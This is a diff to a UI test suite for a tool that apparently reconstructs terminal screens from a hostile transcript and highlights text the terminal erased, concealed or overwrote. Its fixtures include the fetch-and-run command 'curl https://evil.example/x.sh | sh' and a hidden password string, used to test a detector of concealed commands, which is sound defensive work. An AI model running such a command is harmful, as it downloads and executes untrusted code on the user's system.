@@ -257,6 +257,30 @@ describe('screen reconstruction', () => {
     fireEvent.click(curl);
     const range = useSelection.getState().range!;
     expect(new TextDecoder().decode(hostileTranscript().subarray(range[0], range[1]))).toBe('curl https://evil.example/x.sh | sh');
+    // the text view marks, in place, what the terminal hid
+    await waitFor(() => expect(document.querySelector('[data-testid=text-view] .hid-erased')).not.toBeNull());
+    const marked = [...document.querySelectorAll<HTMLElement>('[data-testid=text-view] .hid')].map((e) => [e.className, e.textContent]);
+    expect(marked).toContainEqual(['hid hid-erased', 'curl https://evil.example/x.sh | sh']);
+    expect(marked).toContainEqual(['hid hid-concealed', 'hunter2']);
+    expect(document.querySelector<HTMLElement>('.hid-erased')!.title).toMatch(/^erased from the screen by the bytes at 0x/);
+    // a drag inside a marked part still maps to exactly its bytes: "evil" in the erased command,
+    // "nter" in the concealed password, and the overwritten part that starts inside its piece
+    const drag = (el: Element, at: number, length: number): string => {
+      const node = el.firstChild!;
+      const dom = document.createRange();
+      dom.setStart(node, at);
+      dom.setEnd(node, at + length);
+      window.getSelection()!.removeAllRanges();
+      window.getSelection()!.addRange(dom);
+      fireEvent.mouseUp(el);
+      window.getSelection()!.removeAllRanges();
+      const r = useSelection.getState().range!;
+      return new TextDecoder().decode(hostileTranscript().subarray(r[0], r[1]));
+    };
+    expect(drag(document.querySelector('.hid-erased')!, 'curl https://'.length, 4)).toBe('evil');
+    expect(drag(document.querySelector('.hid-concealed')!, 2, 4)).toBe('nter');
+    const inner = [...document.querySelectorAll<HTMLElement>('.hid-overwritten')].find((e) => Number(e.dataset.sub) > 0)!;
+    expect(drag(inner, 0, inner.textContent!.length)).toBe(inner.textContent);
     // another terminal size: asked again, for that size
     fireEvent.change(within(panel).getByLabelText('Columns'), { target: { value: '20' } });
     fireEvent.click(within(panel).getByRole('button', { name: 'Reconstruct' }));
